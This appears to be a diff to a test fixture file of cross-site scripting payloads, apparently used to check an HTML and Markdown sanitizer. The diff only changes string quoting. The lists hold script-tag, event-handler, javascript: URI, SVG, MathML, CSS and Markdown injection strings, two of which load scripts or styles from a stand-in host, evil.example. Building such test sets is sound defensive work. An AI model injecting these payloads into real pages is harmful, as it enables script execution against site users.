@@ -14,7 +14,7 @@ SCRIPT_TAGS = [
     "</script><script>alert(1)</script>",
     "<script\x0c>alert(1)</script>",
     "<script/xss src=https://evil.example/x.js></script>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
 ]
 EVENT_HANDLERS = [
     "<img src=x onerror=alert(1)>",
@@ -59,7 +59,7 @@ SVG_AND_MATHML = [
     '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     '<math href="javascript:alert(1)">x</math>',
     "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
     "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
@@ -84,7 +84,7 @@ STYLE = [
     '<p style="background:url(javascript:alert(1))">x</p>',
     '<div style="width: expression(alert(1))">x</div>',
     '<p style="behavior:url(x.htc)">x</p>',
-    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><ul><li>x</li></ul>",
+    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><ul><li>x</li></ul>',
 ]
 META_AND_FORMS = [
     '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
@@ -94,9 +94,9 @@ META_AND_FORMS = [
     '<form><button formaction="javascript:alert(1)">x</button></form>',
     '<input type="image" src="javascript:alert(1)">',
     '<isindex action="javascript:alert(1)" type=submit>',
-    '<textarea autofocus onfocus=alert(1)>x</textarea>',
-    '<select autofocus onfocus=alert(1)></select>',
-    '<keygen autofocus onfocus=alert(1)>',
+    "<textarea autofocus onfocus=alert(1)>x</textarea>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<keygen autofocus onfocus=alert(1)>",
 ]
 MARKDOWN = [
     "[click me](javascript:alert(1))",
@@ -108,11 +108,11 @@ MARKDOWN = [
     "![image](javascript:alert(1))",
     "![image](data:image/svg+xml,<svg onload=alert(1)>)",
     '![a" onerror="alert(1)](https://example.org/a.png)',
-    "[x](https://example.org \"title\" onclick=alert(1))",
+    '[x](https://example.org "title" onclick=alert(1))',
     "[ref]\n\n[ref]: javascript:alert(1)",
     "[a](<javascript:alert(1)>)",
     "<javascript:alert(1)>",
-    "<https://example.org/\"onmouseover=\"alert(1)>",
+    '<https://example.org/"onmouseover="alert(1)>',
     "<vbscript:msgbox(1)>",
     "<data:text/html,<script>alert(1)</script>>",
     "```html\n<script>alert(1)</script>\n```",
@@ -131,7 +131,7 @@ RAW_AND_BROKEN_HTML = [
     "<div><p>unclosed <b>bold <i>italic <script>alert(1)</script>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&lt;img src=x onerror=alert(1)&gt;",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "'><img src=x onerror=alert(1)>",
     "</textarea><script>alert(1)</script>",
     "</title><script>alert(1)</script>",
